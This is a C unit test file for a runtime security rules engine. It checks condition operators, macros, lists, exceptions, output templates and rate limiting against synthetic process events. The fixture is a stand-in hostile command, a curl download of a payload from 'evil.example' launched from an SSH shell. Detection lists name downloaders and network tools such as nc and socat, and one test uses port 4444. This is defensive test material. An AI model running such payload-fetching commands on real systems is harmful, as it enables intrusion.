/* test_rules_eval.c — condition operators, fields, macros and lists, exceptions, output
 * templates, evidence and rate limiting, on synthetic processes and events. */
#include <arpa/inet.h>
#include "test_rules_util.h"

static struct vg_proctable *pt;
static struct vg_proc *curl;
static struct tev tev;

static int setup(void **state)
{
	struct vg_proc *sshd, *bash;

	pt = vg_proctable_new(64);
	tproc(pt, 1, 0, "systemd", "/usr/lib/systemd/systemd", "/sbin/init");
	sshd = tproc(pt, 100, 1, "sshd", "/usr/sbin/sshd", "sshd: root@pts/0");
	bash = tproc(pt, 200, 100, "bash", "/usr/bin/bash", "-bash");
	curl = tproc(pt, 300, 200, "curl", "/usr/bin/curl", "curl -o /tmp/x http://evil.example/payload");
	curl->pgid = 300;
	(void)sshd;
	(void)bash;
	return 0;
}

static int teardown(void **state)
{
	vg_proctable_free(pt);
	return 0;
}

static struct vg_event *exec_event(void)
{
	return tevent(&tev, "exec", curl, 5 * SEC);
}

/* Does a one-rule ruleset with this condition fire on ev? */
static bool fires(const char *cond, const struct vg_event *ev)
{
	char yaml[4096];
	struct seen s = { 0 };
	struct vg_ruleset *rs;

	snprintf(yaml, sizeof(yaml),
		 "- list: downloaders\n  items: [wget, curl]\n"
		 "- macro: spawned_process\n  condition: evt.type = exec\n"
		 "- macro: downloader\n  condition: spawned_process and proc.name in (downloaders)\n"
		 "- rule: r\n  desc: d\n  priority: warning\n  output: o\n  condition: |\n    %s\n", cond);
	rs = tload(yaml);
	vg_rules_eval(rs, ev, pt, collect, &s);
	vg_ruleset_free(rs);
	return s.n == 1;
}

#define YES(cond) do { if (!fires(cond, ev)) fail_msg("should match: %s", cond); } while (0)
#define NO(cond) do { if (fires(cond, ev)) fail_msg("should not match: %s", cond); } while (0)

static void test_comparisons(void **state)
{
	struct vg_event *ev = exec_event();

	YES("proc.name = curl");
	YES("proc.name == curl");
	NO("proc.name = bash");
	YES("proc.name != bash");
	NO("proc.name != curl");
	YES("proc.pid > 299");
	NO("proc.pid > 300");
	YES("proc.pid >= 300");
	YES("proc.pid < 301");
	NO("proc.pid < 300");
	YES("proc.pid <= 300");
	YES("proc.ppid = 200");
	YES("proc.pid = 0x12c");
	YES("evt.ret = 0");
	NO("evt.ret < 0");
	YES("proc.exe = \"/usr/bin/curl\"");
	YES("proc.exe = '/usr/bin/curl'");
	YES("container.in_host = true");
	NO("container.in_host = false");
	YES("user.uid = 0 and user.name = root");
	YES("proc.pgid = val(proc.pid)");
	NO("proc.ppid = val(proc.pid)");
}

static void test_string_operators(void **state)
{
	struct vg_event *ev = exec_event();

	YES("proc.cmdline contains evil.example");
	NO("proc.cmdline contains EVIL");
	YES("proc.cmdline icontains EVIL.Example");
	YES("proc.exe startswith /usr/");
	NO("proc.exe startswith /tmp/");
	YES("proc.exe endswith /curl");
	NO("proc.exe endswith /wget");
	YES("proc.exe glob \"/usr/*/c?rl\"");
	NO("proc.exe glob \"/usr/sbin/*\"");
	YES("proc.cmdline regex \"https?://[a-z.]+/pay\"");
	NO("proc.cmdline regex \"^wget \"");
	/* the literal a regex's every match contains (the rule index skips a rule whose
	 * value lacks it): classes of one byte, quantified bytes, counts, groups, options */
	YES("proc.cmdline regex \"evil[.]example/pay(load)?\"");
	NO("proc.cmdline regex \"evil[.]example/pax\"");
	YES("proc.exe regex \"/c[u]rl$\"");
	YES("proc.exe regex \"/usr/bin/cx?url\"");
	YES("proc.cmdline regex \"-o /tm+p/x\"");
	YES("proc.cmdline regex \"ox{0,2} /tmp\"");
	YES("proc.cmdline regex \"(?i)EVIL[.]\"");
	YES("proc.cmdline regex \"wget|curl\"");
	YES("proc.cmdline regex \"[^z]url -o\"");
	YES("proc.exe in (/bin/sh, /usr/bin/curl)");
	NO("proc.exe in (/bin/sh, /usr/bin/wget)");
	YES("proc.name in downloaders");
	YES("proc.name in (nc, downloaders)");
	YES("proc.name in (a, b, c, d, e, f, g, h, i, j, k, curl)"); /* hashed set */
	NO("proc.name in (a, b, c, d, e, f, g, h, i, j, k, wget)");
	YES("proc.exe exists");
	YES("proc.exe pmatch (/usr/bin, /opt)");
	YES("proc.exe pmatch (/usr/bin/curl)");
	YES("proc.exe pmatch (/usr/)");
	NO("proc.exe pmatch (/usr/bi, /opt)");
	NO("proc.exe pmatch (/usr/bin/cur)");
	NO("proc.name in ()");
	/* the alternatives of an OR that cannot hold for an exec leave the rest's tests */
	YES("(evt.type = open and proc.name = wget) or (evt.type = exec and proc.name = curl and proc.exe regex \"/c[u]rl$\")");
	NO("(evt.type = open and proc.name = curl) or (evt.type = exec and proc.name = wget)");
}

static void test_list_field(void **state)
{
	struct vg_event *ev = exec_event();

	YES("proc.args contains -o");
	NO("proc.args contains -O");
	YES("proc.args = /tmp/x");
	NO("proc.args = /tmp");
	YES("proc.args startswith http://");
	YES("proc.args in (-x, -o)");
	YES("proc.args != -z");
	NO("proc.args != -o");
}

static void test_ancestors(void **state)
{
	struct vg_event *ev = exec_event();

	YES("proc.pname = bash and parent.name = bash and parent.pid = 200");
	YES("parent.exe = /usr/bin/bash");
	YES("proc.aname[1] = bash");
	YES("proc.aname[2] = sshd");
	YES("proc.aname[3] = systemd");
	NO("proc.aname[2] = bash");
	NO("proc.aname[4] exists");
	YES("proc.aname = sshd");
	YES("proc.aname = systemd");
	NO("proc.aname = curl");
	YES("proc.aexe[2] = /usr/sbin/sshd");
	YES("proc.acmdline contains root@pts");
	YES("proc.apid[3] = 1");
	YES("proc.aname[0] = curl");
}

static void test_absent_fields(void **state)
{
	struct vg_event *ev = exec_event();

	NO("exec.filename = /tmp/x");
	NO("exec.filename != /tmp/x");
	NO("exec.filename exists");
	YES("not exec.filename exists");
	tadd_str(ev, "exec.filename", "/tmp/x");
	YES("exec.filename = /tmp/x");
	YES("exec.filename exists");
}

static void test_ip_and_bool_fields(void **state)
{
	struct vg_event *ev = exec_event();
	struct vg_value v = { .type = VG_V_IP };

	v.ip.family = 4;
	inet_pton(AF_INET, "10.1.2.3", v.ip.addr);
	vg_event_add(ev, tfield("stdin.raddr"), v);
	tadd_int(ev, "stdin.rport", 4444);
	vg_event_add_bool(ev, tfield("exec.exe_deleted"), true);
	YES("stdin.raddr = 10.1.2.3");
	YES("stdin.raddr in (192.168.0.0/16, 10.0.0.0/8)");
	YES("stdin.raddr = 10.1.2.0/23");
	NO("stdin.raddr = 10.1.4.0/23");
	NO("stdin.raddr in (::1, 172.16.0.0/12)");
	YES("stdin.rport in (4444, 1337)");
	YES("exec.exe_deleted = true");
	NO("exec.exe_deleted != true");
}

static void test_boolean_logic_and_macros(void **state)
{
	struct vg_event *ev = exec_event();

	NO("proc.name = bash or proc.name = curl and proc.pid = 1");
	YES("(proc.name = bash or proc.name = curl) and proc.pid = 300");
	YES("not proc.name = bash");
	YES("not not proc.name = curl");
	YES("not (proc.name = bash or proc.pid = 1)");
	YES("spawned_process");
	YES("downloader and not proc.aname = nginx");
	YES("evt.type in (connect, exec)");
	NO("evt.type != exec");
	YES("evt.type startswith ex");
	ev = tevent(&tev, "connect", curl, 5 * SEC);
	NO("downloader");
	YES("evt.type = connect and proc.name in (downloaders)");
}

static void test_exceptions(void **state)
{
	static const char *yaml =
		"- list: trusted_tools\n  items: [nc, socat]\n"
		"- rule: Shell tool\n  desc: d\n  priority: notice\n  output: o\n"
		"  condition: evt.type = exec and proc.name in (curl, wget, nc)\n"
		"  exceptions:\n"
		"    - name: parent_and_dest\n      fields: [proc.pname, proc.cmdline]\n"
		"      comps: [=, contains]\n      values:\n        - [bash, trusted.example]\n"
		"    - name: tools\n      fields: proc.name\n      values: [trusted_tools]\n"
		"    - name: by_cond\n      condition: proc.cwd = /srv\n"
		"- rule: Shell tool\n  append: true\n  exceptions:\n"
		"    - name: parent_and_dest\n      values:\n        - [bash, mirror.example]\n";
	struct vg_ruleset *rs = tload(yaml);
	struct vg_event *ev = exec_event();
	struct seen s = { 0 };

	vg_rules_eval(rs, ev, pt, collect, &s);
	assert_int_equal(s.n, 1);
	vg_proc_set_argv(curl, "curl\0http://mirror.example/x", sizeof("curl\0http://mirror.example/x"));
	vg_rules_eval(rs, ev, pt, collect, &s);
	assert_int_equal(s.n, 1); /* the appended value excepts it */
	vg_proc_set_argv(curl, "curl\0http://trusted.example/x", sizeof("curl\0http://trusted.example/x"));
	vg_rules_eval(rs, ev, pt, collect, &s);
	assert_int_equal(s.n, 1);
	vg_proc_set_argv(curl, "curl\0http://other.example/x", sizeof("curl\0http://other.example/x"));
	vg_rules_eval(rs, ev, pt, collect, &s);
	assert_int_equal(s.n, 2);
	vg_proc_set_str(&curl->cwd, "/srv", 4);
	vg_rules_eval(rs, ev, pt, collect, &s);
	assert_int_equal(s.n, 2);
	vg_proc_set_str(&curl->cwd, "/root", 5);
	snprintf(curl->comm, sizeof(curl->comm), "nc");
	vg_rules_eval(rs, ev, pt, collect, &s);
	assert_int_equal(s.n, 2);
	snprintf(curl->comm, sizeof(curl->comm), "curl");
	vg_proc_set_argv(curl, "curl\0-o\0/tmp/x\0http://evil.example/payload", sizeof("curl\0-o\0/tmp/x\0http://evil.example/payload"));
	vg_ruleset_free(rs);
}

static void test_output_and_evidence(void **state)
{
	static const char *yaml =
		"- rule: Downloader\n  desc: a downloader ran\n  priority: ERROR\n  action: kill\n"
		"  tags: [mitre_execution, T1105]\n  condition: evt.type = exec and proc.name = curl\n"
		"  output: \"%proc.name ran by %user.name (%proc.aname[2] > %proc.pname) args=%proc.args "
		"file=%exec.filename 100%% pid=%proc.pid.\"\n";
	struct vg_ruleset *rs = tload(yaml);
	struct seen s = { 0 };

	vg_rules_eval(rs, exec_event(), pt, collect, &s);
	assert_int_equal(s.n, 1);
	assert_string_equal(s.rule[0], "Downloader");
	assert_string_equal(s.output[0], "curl ran by root (sshd > bash) args=curl -o /tmp/x "
					 "http://evil.example/payload file=<NA> 100% pid=300.");
	assert_int_equal(s.prio[0], VG_PRIO_ERROR);
	assert_int_equal(s.action[0], VG_ACTION_KILL);
	assert_int_equal(s.nevidence[0], 1);
	assert_non_null(strstr(s.evidence0[0], "\"kind\":\"event\""));
	assert_non_null(strstr(s.evidence0[0], "\"event\":\"exec\""));
	vg_ruleset_free(rs);
}

static void test_rate_limit(void **state)
{
	static const char *yaml =
		"- rule: Any exec\n  desc: d\n  priority: debug\n  output: o\n  condition: evt.type = exec\n";
	struct vg_rules_opts opts = { .rate_burst = 10, .rate_per_sec = 1.0 };
	struct vg_rules_errors errs;
	struct vg_ruleset *rs = vg_rules_load_text("t.yaml", yaml, &opts, &errs);
	struct vg_proc *other = tproc(pt, 301, 200, "curl", "/usr/bin/curl", "curl");
	struct vg_rule_info ri;
	struct seen s = { 0 };
	int alerts = 0;

	assert_non_null(rs);
	for (int i = 0; i < 15; i++)
		alerts += vg_rules_eval(rs, tevent(&tev, "exec", curl, 10 * SEC), pt, NULL, NULL);
	assert_int_equal(alerts, 10);
	assert_true(vg_rules_info(rs, 0, &ri));
	assert_int_equal(ri.matches, 15);
	assert_int_equal(ri.suppressed, 5);
	/* another process has its own bucket */
	assert_int_equal(vg_rules_eval(rs, tevent(&tev, "exec", other, 10 * SEC), pt, collect, &s), 1);
	/* 1 token per second refills */
	alerts = 0;
	for (int i = 0; i < 5; i++)
		alerts += vg_rules_eval(rs, tevent(&tev, "exec", curl, 13 * SEC), pt, NULL, NULL);
	assert_int_equal(alerts, 3);
	vg_ruleset_free(rs);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_comparisons),
		cmocka_unit_test(test_string_operators),
		cmocka_unit_test(test_list_field),
		cmocka_unit_test(test_ancestors),
		cmocka_unit_test(test_absent_fields),
		cmocka_unit_test(test_ip_and_bool_fields),
		cmocka_unit_test(test_boolean_logic_and_macros),
		cmocka_unit_test(test_exceptions),
		cmocka_unit_test(test_output_and_evidence),
		cmocka_unit_test(test_rate_limit),
	};

	return cmocka_run_group_tests(tests, setup, teardown);
}
